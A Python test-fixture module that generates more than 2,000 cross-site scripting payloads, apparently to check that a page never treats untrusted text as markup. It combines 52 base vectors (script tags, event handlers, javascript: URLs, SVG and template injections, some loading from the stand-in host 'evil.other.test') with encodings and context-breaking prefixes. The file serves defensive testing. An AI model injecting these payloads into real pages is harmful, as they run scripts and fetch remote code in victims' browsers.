"""Texts that would run a script, or ask another host, if a page took them for markup."""

import html
import re
from urllib.parse import quote

CALL = "window.ran=(window.ran||0)+1"
FAR = "http://evil.other.test"

HOSTILE_TEXTS = (
    f"<script>{CALL}</script>",
    f"<script src={FAR}/a.js></script>",
    f"</script><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src={FAR}/a.png>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><use href={FAR}/a.svg#x></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data={FAR}/a.swf></object>",
    f"<embed src={FAR}/a.swf>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>click</a>",
    f"<a href='java\tscript:{CALL}'>click</a>",
    f"<form action=javascript:{CALL}><input type=submit></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<base href={FAR}/>",
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<style>@import '{FAR}/a.css';</style>",
    f"<style>* {{ background: url({FAR}/a.png) }}</style>",
    f"<div style='background:url({FAR}/b.png)'>x</div>",
    f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    f"<template><script>{CALL}</script></template>",
    f"<slot onslotchange={CALL}></slot>",
    f"<x onanimationstart={CALL} style='animation:x 1s'>",
    f"<p is=article-assistant onclick={CALL}>",
    f'" onmouseover="{CALL}',
    f"' onfocus='{CALL}' autofocus='",
    f"`-{CALL}-`",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"<!--<img src=--><img src=x onerror={CALL}>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"![x]({FAR}/c.png) [x](javascript:{CALL})",
    f"\ndata: {{}}\n\nevent: answer\ndata: <script>{CALL}</script>\n\n",
    f"\u202e<script>{CALL}</script>\u0000<img src=x onerror={CALL}>",
    f"__proto__ <script>{CALL}</script> constructor",
)
"""52 of them: elements, attributes, addresses, templates, style, comments, the stream's own marks."""

FORMS = (
    str,
    lambda text: re.sub(r"</?\w+", lambda found: found[0].upper(), text),
    lambda text: text.replace(" ", "\n\t"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\0"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    html.escape,
    quote,
)
"""How each is written: as it is, in capitals, parted otherwise, with a null, in wide letters, escaped twice."""
BEFORE = ("", "\"'>", "</textarea></title></style></template>", "-->]]>", "`) [1](", "<a title='")
"""What would end the place where a text stands."""


def hostile_texts() -> list[str]:
    """More than 2,000 that differ, the same ones each time; neighbours differ in kind."""
    made = (before + form(text) for before in BEFORE for form in FORMS for text in HOSTILE_TEXTS)
    return list(dict.fromkeys(made))
